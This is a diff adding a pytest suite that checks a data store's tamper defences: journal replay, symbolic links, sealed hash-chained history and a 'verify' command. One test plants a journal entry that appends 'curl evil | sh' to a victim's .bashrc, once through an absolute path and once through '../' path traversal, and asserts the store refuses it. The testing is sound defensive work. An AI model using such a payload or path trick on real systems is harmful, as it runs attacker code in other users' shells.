@@ -1,0 +1,383 @@
+"""A history nobody can quietly rewrite: the journal, symbolic links, seals and ``coordtui verify``.
+
+Each attack is made the way a colleague with write access to the store folder would make
+it (by editing its files), and each test names what the store now does about it.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+from coordtui.cli import main
+from coordtui.errors import StoreError
+from coordtui.store import HistoryReader, Put, Store
+from coordtui.store.files import JOURNAL
+from coordtui.store.seal import HEAD, entry_hash, key_path
+
+from conftest import DROPINS
+
+
+def run(capsys, *args):
+    code = main([*map(str, args)])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+@pytest.fixture
+def store(tmp_path):
+    s = Store(tmp_path / "s", create=True, user="alice")
+    s.put_org({"id": "o1", "name": "Org", "model": "m"})
+    for n in range(3):
+        s.put("o1", "unit", "u1", {"name": f"v{n}"})
+    s.put("o1", "act", "a1", {"title": "协作活动"}, part="2026-03")
+    s.put("o1", "act", "a2", {"title": "第二次"}, part="2026-03")
+    return s
+
+
+def lines(path: Path) -> list[dict]:
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+def write_lines(path: Path, entries: list) -> None:
+    path.write_text("".join((e if isinstance(e, str) else json.dumps(e, ensure_ascii=False)) + "\n" for e in entries))
+
+
+def verify(capsys, root) -> tuple[int, str]:
+    code, out, err = run(capsys, "verify", "--db", root)
+    return code, out + err
+
+
+# the journal -----------------------------------------------------------------------
+
+def test_a_planted_journal_appending_to_the_next_users_bashrc_is_refused_and_nothing_is_replayed(store, tmp_path, capsys):
+    bashrc = tmp_path / "victim" / ".bashrc"
+    bashrc.parent.mkdir()
+    bashrc.write_text("# victim's shell\n")
+    (store.root / JOURNAL).write_text(json.dumps({"files": [], "appends": [[str(bashrc), bashrc.stat().st_size, "curl evil | sh\n"]]}))
+    code, out, err = run(capsys, "check", "--db", store.root)
+    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
+    assert f"{store.root / JOURNAL}: the journal names {bashrc}" in err and "nothing was replayed" in err
+    assert bashrc.read_text() == "# victim's shell\n"
+    relative = {"files": [], "appends": [["../victim/.bashrc", 0, "curl evil | sh\n"]]}
+    (store.root / JOURNAL).write_text(json.dumps(relative))
+    with pytest.raises(StoreError, match="not one of the store's own files"):
+        Store(store.root).put("o1", "unit", "u2", {"name": "x"})
+    assert bashrc.read_text() == "# victim's shell\n"
+
+
+def test_a_journal_renaming_onto_a_file_outside_the_store_is_refused(store, tmp_path):
+    outside = tmp_path / "outside.txt"
+    outside.write_text("precious")
+    tmp = store.root / "data" / "o1" / "structure.json.7.coordtui-tmp"
+    tmp.write_text('{"unit": {}}')
+    (store.root / JOURNAL).write_text(json.dumps({"files": [[str(tmp), str(outside)]], "appends": []}))
+    with pytest.raises(StoreError, match="outside the store"):
+        Store(store.root)
+    assert outside.read_text() == "precious" and tmp.exists()
+    # nor a rename whose temp file is not the one commit_files makes for its target
+    (store.root / JOURNAL).write_text(json.dumps({"files": [["people.json", "data/o1/structure.json"]], "appends": []}))
+    with pytest.raises(StoreError, match="not one of the store's own files"):
+        Store(store.root)
+
+
+def test_a_journal_through_a_symlinked_folder_or_onto_a_symlinked_log_is_refused(store, tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (store.root / "data" / "evil").symlink_to(elsewhere)
+    (elsewhere / "2026.json.3.coordtui-tmp").write_text("{}")
+    (store.root / JOURNAL).write_text(json.dumps({"files": [["data/evil/2026.json.3.coordtui-tmp", "data/evil/2026.json"]]}))
+    with pytest.raises(StoreError, match="is a symbolic link"):
+        Store(store.root)
+    assert not (elsewhere / "2026.json").exists()
+    target = tmp_path / "profile"
+    target.write_text("mine\n")
+    log = store.root / "data" / "o1" / "2026-04.history.jsonl"
+    log.symlink_to(target)
+    (store.root / JOURNAL).write_text(json.dumps({"files": [], "appends": [["data/o1/2026-04.history.jsonl", 0, "x\n"]]}))
+    with pytest.raises(StoreError, match="is a symbolic link"):
+        Store(store.root)
+    assert target.read_text() == "mine\n"
+
+
+def test_a_symlinked_data_file_is_neither_read_nor_written_through(store, tmp_path):
+    part = store.root / "data" / "o1" / "2026-03.json"
+    foreign = tmp_path / "foreign.json"
+    foreign.write_bytes(part.read_bytes())
+    part.unlink()
+    part.symlink_to(foreign)
+    with pytest.raises(StoreError, match="2026-03.json: is a symbolic link"):
+        Store(store.root).get("o1", "act", "a1")
+    code_before = foreign.read_bytes()
+    with pytest.raises(StoreError):
+        Store(store.root).put("o1", "act", "a3", {"title": "x"}, part="2026-03")
+    assert foreign.read_bytes() == code_before
+
+
+def test_the_journal_names_files_relative_to_the_store_and_recovery_still_finishes_a_commit(store, monkeypatch):
+    import coordtui.store.files as files
+
+    monkeypatch.setattr(files, "_append", lambda path, offset, payload: (_ for _ in ()).throw(OSError(5, "Input/output error")))
+    with pytest.raises(StoreError, match="history could not be written yet"):
+        store.put("o1", "unit", "u1", {"name": "late"})
+    body = json.loads((store.root / JOURNAL).read_text())
+    assert all(not p.startswith("/") for pair in body["files"] for p in pair) and body["appends"][0][0] == "data/o1/structure.history.jsonl"
+    monkeypatch.undo()
+    fresh = Store(store.root)
+    fresh.put("o1", "unit", "u2", {"name": "next"})
+    assert not (store.root / JOURNAL).exists() and fresh.verify_history() == []
+
+
+# seals and verify --------------------------------------------------------------------
+
+def test_an_intact_store_verifies_clean_after_saves_moves_deletes_an_import_with_replace_and_a_restore(tmp_path, capsys):
+    db = tmp_path / "db"
+    assert run(capsys, "init", "--db", db, "--examples", "--plugin-dir", DROPINS)[0] == 0
+    s = Store(db, user="alice")
+    for n in range(40):
+        s.put("m1", "team", f"t{n % 7}", {"name": f"第{n}组"})
+    s.put("m1", "act", "x1", {"title": "a"}, part="2025")
+    s.put("m1", "act", "x1", {"title": "a"}, part="2026")  # moved between partitions
+    s.delete("m1", "team", "t3")
+    exported = tmp_path / "m1.json"
+    assert run(capsys, "export", "--org", "m1", "--db", db, "--out", exported, "--plugin-dir", DROPINS)[0] == 0
+    doc = json.loads(exported.read_text())
+    doc["items"] = doc["items"][1:]
+    exported.write_text(json.dumps(doc, ensure_ascii=False))
+    code, out, err = run(capsys, "import", exported, "--db", db, "--replace", "--plugin-dir", DROPINS)
+    assert code == 0 and "deleted" in out and "deleted 0" not in out, err
+    for n in range(3):
+        s.put("m1", "team", "t0", {"name": f"again {n}"})
+    assert run(capsys, "restore", "data/m1/structure.json", "--db", db)[0] == 0
+    code, report = verify(capsys, db)
+    assert code == 0 and "the history is intact" in report, report
+    restored = [e for e in Store(db).history(record_id="t0") if e["op"] == "restore"]
+    assert restored and restored[0]["after"]["name"] == "again 1"  # the backup's version, recorded as a change
+
+
+def test_an_edited_line_is_named_by_file_and_entry(store, capsys):
+    log = store.root / "data" / "o1" / "structure.history.jsonl"
+    entries = lines(log)
+    entries[1]["after"]["name"] = "forged"
+    write_lines(log, entries)
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/structure.history.jsonl: history entry 2 was altered after it was written" in report
+
+
+def test_a_removed_or_reordered_line_is_named(store, capsys):
+    log = store.root / "data" / "o1" / "structure.history.jsonl"
+    entries = lines(log)
+    write_lines(log, [entries[0], entries[2]])
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "history entry 3 is out of sequence (expected 2)" in report
+    write_lines(log, [entries[0], entries[2], entries[1]])
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "history entry 3 is out of sequence (expected 2)" in report and "history entry 2 is out of sequence" in report
+
+
+def test_a_cut_off_tail_is_named(store, capsys):
+    log = store.root / "data" / "o1" / "structure.history.jsonl"
+    write_lines(log, lines(log)[:1])
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/structure.history.jsonl: ends at entry 1 but the sealed head of data/o1/structure.json says 3" in report
+    assert "entries 2–3 were cut off" in report
+    # and the next save chains on from the sealed head, so the gap stays visible
+    Store(store.root).put("o1", "unit", "u1", {"name": "v3"})
+    assert [e["seq"] for e in lines(log)] == [1, 4]
+    assert any("history entry 4 is out of sequence (expected 2)" in p for p in Store(store.root).verify_history())
+
+
+def test_a_deleted_log_is_named(store, capsys):
+    (store.root / "data" / "o1" / "2026-03.history.jsonl").unlink()
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2026-03.history.jsonl: the history log is missing (deleted outside coordtui)" in report
+
+
+def test_a_data_file_edited_by_hand_is_named_with_its_record_and_no_save_seals_over_it(store, capsys):
+    part = store.root / "data" / "o1" / "2026-03.json"
+    original = part.read_bytes()
+    data = json.loads(original)
+    data["act"]["a1"]["title"] = "改过的"
+    part.write_text(json.dumps(data, ensure_ascii=False))  # rewritten by a program
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2026-03.json: was rewritten outside coordtui" in report
+    assert "data/o1/2026-03.json: act a1 differs from the state its history ends in" in report
+    part.write_bytes(original.replace("协作活动".encode(), "改过的活动".encode()))  # edited in place, head kept
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2026-03.json: its records were changed outside coordtui" in report
+    assert "data/o1/2026-03.json: act a1 differs from the state its history ends in" in report
+    with pytest.raises(StoreError, match="2026-03.json: its records were changed outside coordtui.*nothing was saved"):
+        Store(store.root).put("o1", "act", "a9", {"title": "new"}, part="2026-03")
+
+
+def test_a_data_file_deleted_with_its_log_is_named(store, capsys):
+    (store.root / "data" / "o1" / "2026-03.json").unlink()
+    (store.root / "data" / "o1" / "2026-03.history.jsonl").unlink()
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2026-03.json: the data file and its history log are missing (deleted outside coordtui)" in report
+
+
+def test_a_whole_log_rewritten_with_fresh_hashes_does_not_match_its_seals(store, capsys):
+    log = store.root / "data" / "o1" / "2026-03.history.jsonl"
+    forged, prev = [], ""
+    for e in lines(log):
+        e["user"] = "somebody-else"
+        e["prev"] = prev
+        e.pop("seal")
+        e["hash"] = entry_hash(e)
+        e["seal"] = "0" * 64  # without the key no seal can be made
+        prev = e["hash"]
+        forged.append(e)
+    write_lines(log, forged)
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2026-03.history.jsonl: history entry 1 does not match its seal" in report
+    assert "history entry 2 does not match its seal" in report
+
+
+def test_a_malformed_line_is_a_break_never_a_crash(store, capsys):
+    log = store.root / "data" / "o1" / "structure.history.jsonl"
+    write_lines(log, [*lines(log), '{"seq":"x","hash":"h"}'])
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/structure.history.jsonl: history entry at line 4 is malformed" in report
+    entries, problems = HistoryReader(Store(store.root)).refresh()
+    assert len(entries) == 6 and any("line 4 is malformed" in p for p in problems)
+    code, out, err = run(capsys, "check", "--db", store.root, "--format", "json")
+    assert code == 1 and "Traceback" not in err
+    assert any(f["rule"] == "core.history_tampered" and "line 4 is malformed" in f["message_en"] for f in json.loads(out)["findings"])
+
+
+def test_check_and_the_history_reader_report_what_verify_reports(store, capsys):
+    reader = HistoryReader(store)
+    assert reader.refresh()[1] == []
+    log = store.root / "data" / "o1" / "structure.history.jsonl"
+    write_lines(log, lines(log)[:2])
+    _, report = verify(capsys, store.root)
+    problems = reader.refresh()[1]
+    assert problems and all(p in report for p in problems)
+    code, out, _ = run(capsys, "check", "--db", store.root, "--format", "json")
+    tampered = [f["message_en"] for f in json.loads(out)["findings"] if f["rule"] == "core.history_tampered"]
+    assert code == 1 and tampered == [f"history tampered: {p}" for p in problems]
+
+
+def test_a_planted_data_file_and_a_forged_manifest_are_named(store, capsys):
+    planted = store.root / "data" / "o1" / "2020.json"
+    planted.write_text(json.dumps({"act": {"z": {"id": "z", "title": "planted"}}}))
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "data/o1/2020.json: is not in the store's sealed manifest" in report
+    manifest = store.root / "manifest.json"
+    body = json.loads(manifest.read_text())
+    body["files"].append("data/o1/2020.json")
+    manifest.write_text(json.dumps(body))
+    code, report = verify(capsys, store.root)
+    assert code == 1 and "manifest.json: does not match its seal" in report
+
+
+def test_the_sealed_head_is_the_last_key_of_each_data_file(store):
+    raw = (store.root / "data" / "o1" / "2026-03.json").read_bytes()
+    head = json.loads(raw)[HEAD]
+    assert raw.endswith(b'"_head":' + json.dumps(head, separators=(",", ":")).encode() + b"}")
+    assert head["seq"] == 2 and head["unsealed"] == 0
+
+
+# the key --------------------------------------------------------------------------------
+
+def test_without_the_key_nothing_can_be_saved_and_verify_says_why(store, capsys):
+    key = key_path(store._seal.store_id)
+    assert oct(key.stat().st_mode & 0o777) == "0o600" and oct(key.parent.stat().st_mode & 0o777) == "0o700"
+    assert not str(key).startswith(str(store.root))
+    key.rename(key.with_name("away"))
+    with pytest.raises(StoreError, match="cannot read this store's seal key.*nothing was saved"):
+        Store(store.root).put("o1", "unit", "u9", {"name": "x"})
+    assert Store(store.root).get("o1", "unit", "u9") is None
+    code, _, err = run(capsys, "verify", "--db", store.root)
+    assert code == 2 and "cannot read this store's seal key" in err and err.count("\n") == 1
+
+
+# a store of the earlier version ------------------------------------------------------
+
+def _make_unsealed_store(root: Path) -> None:
+    """A schema-2 store as the version before sealing wrote it: hash-chained logs, no seals, heads, manifest or id."""
+    (root / "data" / "o1").mkdir(parents=True)
+    (root / "meta.json").write_text(json.dumps({"format": "coordtui-store", "schema": 2, "created": "2026-11-01T09:00:00+08:00"}))
+
+    def chain(items):
+        out, prev = [], ""
+        for n, (at, op, kind, rid, before, after, org) in enumerate(items, start=1):
+            e = {"seq": n, "at": at, "user": "alice", "op": op, "org": org, "kind": kind, "id": rid,
+                 "before": before, "after": after, "prev": prev}
+            e["hash"] = entry_hash(e)
+            prev = e["hash"]
+            out.append(e)
+        return out
+
+    org = {"id": "o1", "name": "Org", "model": "m", "_rev": 1, "_at": "2026-11-01T09:00:00+08:00", "_by": "alice"}
+    (root / "orgs.json").write_text(json.dumps({"org": {"o1": org}}))
+    write_lines(root / "orgs.history.jsonl", chain([("2026-11-01T09:00:00+08:00", "create", "org", "o1", None, org, "o1")]))
+    u1 = {"name": "A", "id": "u1", "_rev": 1, "_at": "2026-12-02T03:00:00+08:00", "_by": "alice"}
+    (root / "data" / "o1" / "structure.json").write_text(json.dumps({"unit": {"u1": u1}}))
+    write_lines(root / "data" / "o1" / "structure.history.jsonl",
+                chain([("2026-12-02T03:00:00+08:00", "create", "unit", "u1", None, u1, "o1")]))  # 2026-12-01T19:00Z
+
+
+def test_a_store_of_the_earlier_version_is_sealed_by_its_owner_and_never_reported_as_tampered(tmp_path, capsys):
+    root = tmp_path / "old"
+    _make_unsealed_store(root)
+    s = Store(root, user="alice")
+    meta = json.loads((root / "meta.json").read_text())
+    assert meta["schema"] == 3 and meta["store_id"] and key_path(meta["store_id"]).exists()
+    assert oct(root.stat().st_mode & 0o777) == "0o700" and oct((root / "orgs.json").stat().st_mode & 0o777) == "0o600"
+    assert s.verify_history() == []
+    s.put("o1", "unit", "u1", {"name": "B"})  # 2026-12-01T19:42:00Z or later: after the +08:00 entry's instant
+    assert [e["seq"] for e in s.history(record_id="u1")] == [2, 1]  # by instant: "2026-12-02T03…" sorts first as text
+    entries, _ = HistoryReader(s).refresh()
+    assert [e["op"] for e in entries if e["id"] == "u1"] == ["update", "create"]
+    code, report = verify(capsys, root)
+    assert code == 0, report
+    assert "note: data/o1/structure.history.jsonl: entries 1–1 predate sealed history: they are hash-chained" in report
+    # the unsealed entries are still pinned: editing one is a break
+    log = root / "data" / "o1" / "structure.history.jsonl"
+    entries = lines(log)
+    entries[0]["after"]["name"] = "forged"
+    entries[0]["hash"] = entry_hash(entries[0])
+    write_lines(log, entries)
+    code, report = verify(capsys, root)
+    assert code == 1 and "history entry 2 does not follow the previous entry" in report
+
+
+def test_only_the_owner_upgrades_an_earlier_store(tmp_path):
+    if os.geteuid() == 0:
+        root = tmp_path / "old"
+        _make_unsealed_store(root)
+        os.chown(root, 12345, -1)
+        with pytest.raises(StoreError, match="must be upgraded by its owner: ask uid 12345"):
+            Store(root)
+        assert json.loads((root / "meta.json").read_text())["schema"] == 2
+    else:
+        pytest.skip("needs root to give the store folder another owner")
+
+
+def test_restore_of_a_store_file_keeps_the_history_explaining_every_record(store, capsys):
+    part = store.root / "data" / "o1" / "structure.json"
+    part.write_bytes(b'{"unit": {"u1": {"na')
+    assert run(capsys, "restore", "data/o1/structure.json", "--db", store.root)[0] == 0
+    code, report = verify(capsys, store.root)
+    assert code == 0, report
+    ops = [e["op"] for e in Store(store.root).history(record_id="u1")]
+    assert ops[0] == "restore"
+
+
+def test_a_copy_of_the_store_elsewhere_verifies_and_saves_with_the_same_key(store, tmp_path, capsys):
+    copy = tmp_path / "copy"
+    shutil.copytree(store.root, copy, symlinks=True)
+    Store(copy).put("o1", "unit", "u1", {"name": "moved"})
+    assert verify(capsys, copy)[0] == 0
+
+
+def test_apply_many_ops_in_one_transaction_keeps_one_head_per_file(store, capsys):
+    store.apply([Put("o1", "act", f"b{n}", {"title": str(n)}, "2026-04") for n in range(20)])
+    head = json.loads((store.root / "data" / "o1" / "2026-04.json").read_text())[HEAD]
+    assert head["seq"] == 20 and verify(capsys, store.root)[0] == 0
